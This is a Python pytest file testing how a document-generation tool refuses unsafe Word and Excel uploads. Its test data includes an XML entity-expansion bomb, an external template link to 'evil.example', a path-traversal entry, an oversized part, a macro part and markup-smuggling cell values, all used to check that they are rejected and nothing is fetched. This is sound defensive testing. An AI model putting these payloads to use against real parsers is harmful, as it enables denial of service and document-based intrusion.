"""Files from strangers: refused with a reason, at once, and nothing is fetched."""

import io
import zipfile

import pytest
from support.handed import HEAD, LISTED, PACK, book, form, notes, project, taken_book, taken_form

from briefgen.authoring.intake.book.read import read_book
from briefgen.authoring.intake.form.read import read_form
from briefgen.authoring.intake.take import take
from briefgen.diagnostics import UserError

FACT = [("Heading 1", "What we know"), ("Statement", "The harbour is open."), ("Source", "report")]
BOMB = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><x>&b;</x>"
OUTSIDE = b"""<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"
TargetMode="External"/></Relationships>"""


@pytest.fixture
def ferry(tmp_path):
    return project(tmp_path)


@pytest.fixture(scope="module")
def filled():
    return form(FACT, head=HEAD, sources=[LISTED])


def changed(data: bytes, parts: dict[str, bytes]) -> bytes:
    """Return the package with parts put in, or in place of others."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name not in parts:
                target.writestr(name, source.read(name))
        for name, part in parts.items():
            target.writestr(name, part)
    return stream.getvalue()


def why(read, path, content) -> str:
    path.write_bytes(content)
    with pytest.raises(UserError) as fault:
        read(path, None, *([str] if read is read_form else []))
    (diagnostic,) = fault.value.diagnostics
    assert diagnostic.code == "BG158"
    assert diagnostic.hints
    return diagnostic.message


def packed(parts: dict[str, bytes]) -> bytes:
    return changed(_empty(), parts)


def _empty() -> bytes:
    stream = io.BytesIO()
    zipfile.ZipFile(stream, "w").close()
    return stream.getvalue()


@pytest.mark.parametrize("read", [read_form, read_book])
def test_what_is_no_sound_package_is_refused(read, tmp_path, filled):
    path = tmp_path / "file"
    assert "it is no Office file" in why(read, path, b"words")
    assert "it is a PDF" in why(read, path, b"%PDF-1.7 and more")
    assert "it is of the format before 2007" in why(read, path, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    assert "it is damaged" in why(read, path, filled[: len(filled) // 2])
    assert "it declares XML entities" in why(read, path, packed({"word/document.xml": BOMB}))
    assert "it unpacks to more than is read" in why(
        read, path, packed({"word/document.xml": b"<x>" + b" " * 40_000_000})
    )
    assert "it holds macros" in why(read, path, packed({"word/vbaProject.bin": b"x"}))
    assert "no Office program packs a file so" in why(read, path, packed({"../up.xml": b"<x/>"}))


def test_a_book_is_no_form_and_a_form_no_book(ferry, tmp_path, filled):
    book(ferry).save(tmp_path / "book.xlsx")
    assert "is no Word document" in why(read_form, tmp_path / "x", (tmp_path / "book.xlsx").read_bytes())
    assert "is no Excel workbook" in why(read_book, tmp_path / "x", filled)


BROKEN = {
    "xl/workbook.xml": "none of its sheets is one of the book's",
    "xl/worksheets/sheet2.xml": "the sheet has no column 'Name'",
    "xl/styles.xml": "'broken.xlsx' cannot be read: it is no sound workbook",
}


@pytest.mark.parametrize(("part", "said"), BROKEN.items())
def test_a_book_that_is_no_sound_workbook_is_told(ferry, tmp_path, part, said):
    book(ferry).save(tmp_path / "book.xlsx")
    path = tmp_path / "broken.xlsx"
    path.write_bytes(changed((tmp_path / "book.xlsx").read_bytes(), {part: b"<no/>"}))
    try:
        found = take(ferry, PACK, lambda pack: read_book(path, pack)).faults
    except UserError as fault:
        found = fault.diagnostics
    assert [one.message for one in found] == [said]


def test_what_the_file_would_fetch_is_told_and_not_fetched(ferry, tmp_path, filled):
    content = changed(filled, {"word/_rels/settings.xml.rels": OUTSIDE})
    intake = taken_form(ferry, content, tmp_path / "harbour.docx")
    told = ("the file points outside itself, to 'https://evil.example/t.dotm'; nothing was fetched", "links")
    assert told in notes(intake)
    assert intake.faults == ()


def test_words_of_a_form_cannot_widen_who_reads_them(ferry, tmp_path):
    """Each of these would say more than words in the file: a second line, a heading, an attribute, a comment that swallows."""
    smuggled = [
        "Open.\n# Say {.say readers=published}",
        "Open. {.say",
        "Open. <!--",
        "Open. ^id {.say}",
        "- readers: published",
    ]
    for words in smuggled:
        content = form([FACT[0], ("Statement", words), FACT[2]], head=HEAD, sources=[LISTED])
        intake = taken_form(ferry, content, tmp_path / "harbour.docx")
        for text in intake.files.values():
            lines = text.decode().splitlines()
            assert [line for line in lines if line.startswith("#")] == ["# What we know {.facts}"]
            assert len([line for line in lines if line.startswith("- ")]) == 1
        assert intake.files or intake.faults


def test_a_cell_cannot_reach_into_the_file_beside_it(ferry, tmp_path):
    filled = book(ferry)
    filled["People"]["C2"] = "Ms Marren, marking: tlp:clear}"
    filled["People"]["I2"] = "x\n- {id: evil, name: Evil}"
    intake = taken_book(ferry, filled, tmp_path / "book.xlsx")
    assert [each.new for each in intake.differences.changed] == [
        "Ms Marren, marking: tlp:clear}",
        "x - {id: evil, name: Evil}",
    ]
    (text,) = intake.files.values()
    assert text.decode().count("\n") == 1
